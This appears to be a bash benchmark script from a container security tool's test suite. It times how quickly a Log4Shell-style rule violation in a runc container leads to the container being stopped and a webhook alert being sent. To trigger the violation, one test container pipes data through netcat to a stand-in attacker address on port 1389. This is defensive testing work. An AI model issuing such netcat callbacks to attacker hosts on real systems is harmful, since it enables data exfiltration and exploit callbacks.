#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# bench_container.sh [--runs N] [--json FILE]
# On real runc containers: how long from the violation to the container's last
# task being gone, and to the webhook request; and what wrapper and hook add to
# `runc run` of `true`. container_times.py says how it is measured.
set -euo pipefail

here=$(cd "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")" && pwd)
# shellcheck source=tests/harness/scratch.sh
source "$here/../harness/scratch.sh"
# shellcheck source=tests/harness/netns.sh
source "$here/../harness/netns.sh"
# shellcheck source=tests/harness/engine_runc.sh
source "$here/../harness/engine_runc.sh"
# shellcheck source=tests/harness/service.sh
source "$here/../harness/service.sh"

scratch_isolate "${BASH_SOURCE[0]}" "$@"
trap scratch_close EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP
scratch_open

netns_scenery
rootfs_make "$SCRATCH/rootfs"
mkdir "$SCRATCH/rules"
install -m 0644 "$REPO_DIR"/examples/log4shell/*.yaml "$SCRATCH/rules/"
# A port that is free now; nothing else on the machine asks for one by number.
port=$(python3 -c 'import socket
with socket.create_server(("127.0.0.1", 0)) as s: print(s.getsockname()[1])')
service_configure bench "[$SCRATCH/rules/log4j.rules.yaml,
  $SCRATCH/rules/site-indicators.rules.yaml]" "$SCRATCH/rules/policies.yaml" \
  "sinks: [{name: soc, type: webhook, url: \"http://127.0.0.1:$port/\"}]"
# What engines keep below /run is on a tmpfs here too: bundles, the runtime's
# state, RUN_DIR. On a disk its file system is measured as well; ext4 without a
# journal looks at every inode that was deleted in the last minutes whenever a
# file is made, and a benchmark deletes many.
for dir in "$SCRATCH/bundles" "$SCRATCH/runc" "$SVC/run"; do
  mkdir -p "$dir"
  mount -t tmpfs -o mode=0700 bailiff-scratch "$dir"
done
service_start

bundle_make "$SCRATCH/violate" "$SCRATCH/rootfs" @ID@ \
  sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
bundle_make "$SCRATCH/true" "$SCRATCH/rootfs" @ID@ true

mkdir -p "$REPO_DIR/build/bench"
python3 "$here/container_times.py" --port "$port" \
  --json "$REPO_DIR/build/bench/container.json" "$@"
